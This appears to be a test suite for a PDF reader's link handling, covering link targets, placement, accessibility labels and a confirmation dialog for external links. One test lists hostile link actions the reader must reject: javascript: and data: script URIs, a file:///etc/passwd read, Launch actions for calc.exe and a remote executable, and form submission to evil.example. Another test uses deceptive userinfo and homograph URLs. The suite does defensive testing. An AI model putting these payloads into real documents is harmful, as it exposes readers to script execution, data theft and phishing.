import { expect, waitUntil } from '@open-wc/testing';
import { sendKeys } from '@web/test-runner-commands';
import { describe, it } from '../../harness/document-suite.js';
import { accessibilityOutline } from '../../harness/ax-outline.js';
import type { OpenDocument } from '../../../src/document/document-engine.js';
import { engineInTests } from '../../harness/document-pdfjs.js';
import { DocumentReader } from '../../harness/document-reader.js';
import { type LinkedPdf, linkedPdf, onLine, uri } from '../../harness/linked-pdf.js';
import { element, taggedPdf } from '../../harness/tagged-pdf.js';

const { signal } = new AbortController();

async function opened(
  bytes: Uint8Array<ArrayBuffer>,
): Promise<{ reader: DocumentReader; pdf: OpenDocument }> {
  const pdf = await engineInTests().open(bytes, signal);
  const reader = await DocumentReader.open(pdf);
  await reader.painted(1);
  return { reader, pdf };
}

/** What pages of this file link to, by address; `place` for places in the document. */
async function targets(links: readonly string[]): Promise<string[]> {
  const pdf = await engineInTests().open(linkedPdf({ links }), signal);
  const found = await pdf.pageLinks!(1, signal);
  await pdf.close();
  return found.map(({ target }) => (target.type === 'url' ? target.href : 'place'));
}

async function withLinks(
  pdf: LinkedPdf,
  count = pdf.links.length,
): Promise<{ reader: DocumentReader; pdf: OpenDocument }> {
  const view = await opened(linkedPdf(pdf));
  await waitUntil(() => view.reader.links.length === count, 'the links are there');
  return view;
}

describe('The links of a page', () => {
  it('are those to the web, to mail and to phones, and those within the document', async () => {
    expect(
      await targets([
        `${onLine(0)} ${uri('https://bank.example/terms')}`,
        `${onLine(1)} ${uri('mailto:kari@bank.example')}`,
        `${onLine(2)} ${uri('tel:+4722000000')}`,
        `${onLine(3)} /Dest /terms`,
        `${onLine(4)} /Dest [7 0 R /Fit]`,
        `${onLine(5)} /A << /S /GoTo /D (terms) >>`,
        `${onLine(6)} /A << /S /Named /N /NextPage >>`,
      ]),
    ).to.deep.equal([
      'https://bank.example/terms',
      'mailto:kari@bank.example',
      'tel:+4722000000',
      'place',
      'place',
      'place',
      'place',
    ]);
  });

  it('are none that run, open or send something', async () => {
    const hostile = [
      uri('javascript:alert\\(1\\)'),
      uri('data:text/html,<script>alert\\(1\\)</script>'),
      uri('file:///etc/passwd'),
      uri('blob:https://bank.example/1'),
      uri('java\\nscript:alert\\(1\\)'),
      uri('https://bank\\000.example/'),
      uri('terms.html'),
      uri('//evil.example/'),
      '/A << /S /JavaScript /JS (app.alert\\(1\\)) >>',
      '/A << /S /Launch /F (calc.exe) >>',
      '/A << /S /Launch /NewWindow true /F (https://evil.example/run.exe) >>',
      '/A << /S /GoToR /F (other.pdf) /D [0 /Fit] >>',
      '/A << /S /GoToE /T << /R /C /N (inner.pdf) >> >>',
      '/A << /S /SubmitForm /F (https://evil.example/collect) >>',
      '/A << /S /ImportData /F (data.fdf) >>',
      '/A << /S /Named /N /Print >>',
      '/A << /S /Named /N /PrevPage >>',
      '/AA << /D << /S /JavaScript /JS (app.alert\\(1\\)) >> >>',
    ];
    expect(await targets(hostile.map((entries, at) => `${onLine(at)} ${entries}`))).to.deep.equal([]);
  });

  it('are none that take up the page, and no more than anybody could follow', async () => {
    expect(await targets([`/Rect [0 0 595 842] ${uri('https://evil.example/')}`])).to.deep.equal([]);
    expect(await targets([`/Rect [-900 -900 9000 9000] ${uri('https://evil.example/')}`])).to.deep.equal([]);
    expect(await targets([`/Rect [900 900 990 990] ${uri('https://evil.example/')}`])).to.deep.equal([]);
    const many = Array.from({ length: 10_000 }, (_, at) => `${onLine(at % 20)} ${uri('https://a.example/')}`);
    expect(await targets(many)).to.have.length(500);
  });

  it('lie on their words and are named by them, however the page is turned', async () => {
    for (const rotate of [0, 90, 180, 270] as const) {
      const { reader, pdf } = await withLinks({
        rotate,
        lines: ['Our terms'],
        links: [`${onLine(0, 64)} ${uri('https://bank.example/')}`],
      });
      const [link] = reader.links;
      const box = link!.getBoundingClientRect();
      const word = reader.page(1)!.querySelector('span[role=presentation]')!.getBoundingClientRect();
      expect(Math.abs(box.left + box.width / 2 - word.left - word.width / 2), `${rotate}`).to.be.below(6);
      expect(Math.abs(box.top + box.height / 2 - word.top - word.height / 2), `${rotate}`).to.be.below(6);
      expect(link!.ariaLabel).to.equal('Our terms');
      reader.view.remove();
      await pdf.close();
    }
  });

  it('stand where their words are read, with the words under them, else with what the file or the address says', async () => {
    const { reader, pdf } = await withLinks({
      lines: ['See our terms for more', 'Questions', '', ''],
      links: [
        `${onLine(3)} /Dest /terms`,
        `${onLine(2)} ${uri('https://bank.example/x')}`,
        `${onLine(1)} /Contents (Write to us) ${uri('mailto:kari@bank.example')}`,
        // Only "our terms" of the line.
        `/Rect [88 776 146 792] ${uri('https://bank.example/terms')}`,
      ],
    });
    expect(await accessibilityOutline('Page 1 of 3')).to.deep.equal([
      '"See our terms for more"',
      'link "our terms"',
      '"Questions"',
      'link "Questions"',
      'link "Link to another place in the document"',
      'link "Link to bank.example"',
    ]);
    await expect(reader.view).to.be.accessible();
    reader.view.remove();
    await pdf.close();
  });

  it('are read once, within their sentence, in a tagged document', async () => {
    const { reader, pdf } = await opened(
      taggedPdf({
        tree: [
          element(
            'P',
            'Please read',
            { ...element('Link', 'our terms'), leadsTo: 'https://bank.example/' },
            'first.',
          ),
        ],
      }),
    );
    await waitUntil(() => reader.links.length === 1);
    expect(await accessibilityOutline('Page 1 of 1')).to.deep.equal([
      'paragraph',
      '  "Please read"',
      '  link "our terms"',
      '  "first."',
    ]);
    reader.view.remove();
    await pdf.close();
  });

  it('within the document bring its place into view, and the focus there', async () => {
    const { reader, pdf } = await withLinks({
      pages: 20,
      lines: ['To the terms', 'To the last page'],
      links: [`${onLine(0)} /Dest /terms`, `${onLine(1)} /A << /S /Named /N /LastPage >>`],
    });
    reader.links[0]!.focus();
    await sendKeys({ press: 'Enter' });
    await waitUntil(() => reader.focusedElement === reader.page(2));
    // Half way down an A4 page.
    expect(reader.offsetOf(2) / reader.page(2)!.clientHeight).to.be.closeTo(-0.5, 0.05);
    reader.view.scrollToPage(1);
    await waitUntil(() => reader.links.length === 2);
    reader.links[1]!.click();
    await waitUntil(() => reader.focusedElement === reader.page(20));
    reader.view.remove();
    await pdf.close();
  });

  it('to a place that is not there say so and stay', async () => {
    const { reader, pdf } = await withLinks({
      lines: ['Nowhere'],
      links: [`${onLine(0)} /Dest (no such place)`],
    });
    reader.links[0]!.click();
    await waitUntil(() => reader.text.includes('leads to no place'));
    reader.view.remove();
    await pdf.close();
  });
});

describe('A link that leads out of the document', () => {
  const out: LinkedPdf = {
    lines: ['Your bank'],
    links: [`${onLine(0)} ${uri('https://bank.example@b\\320\\260nk.example/login')}`],
  };

  it('shows where to before it opens, and staying gives the focus back', async () => {
    const { reader, pdf } = await withLinks({
      ...out,
      links: [`${onLine(0)} ${uri('https://bank.example@evil.example/bank.example')}`],
    });
    reader.links[0]!.focus();
    await sendKeys({ press: 'Enter' });
    const question = reader.question!;
    expect(question.open).to.equal(true);
    expect(question.querySelector('strong')!.textContent).to.equal('evil.example');
    await expect(question).to.be.accessible();
    const open = question.querySelector('a')!;
    expect([open.href, open.target, open.rel, open.referrerPolicy]).to.deep.equal([
      'https://evil.example/bank.example',
      '_blank',
      'noopener noreferrer',
      'no-referrer',
    ]);
    expect(reader.focusedElement!.textContent).to.equal('Stay here');
    await sendKeys({ press: 'Enter' });
    await waitUntil(() => !reader.question);
    expect(reader.focusedElement).to.equal(reader.links[0]);
    reader.view.remove();
    await pdf.close();
  });

  it('is left by Escape, and asked about for every way of opening it', async () => {
    const { reader, pdf } = await withLinks({
      ...out,
      links: [`${onLine(0)} ${uri('https://evil.example/')}`],
    });
    for (const event of [
      new MouseEvent('click', { bubbles: true, cancelable: true, ctrlKey: true }),
      new MouseEvent('auxclick', { bubbles: true, cancelable: true, button: 1 }),
    ]) {
      reader.links[0]!.dispatchEvent(event);
      expect(event.defaultPrevented, event.type).to.equal(true);
      expect(reader.question?.open, event.type).to.equal(true);
      await sendKeys({ press: 'Escape' });
      await waitUntil(() => !reader.question);
    }
    reader.view.remove();
    await pdf.close();
  });
});
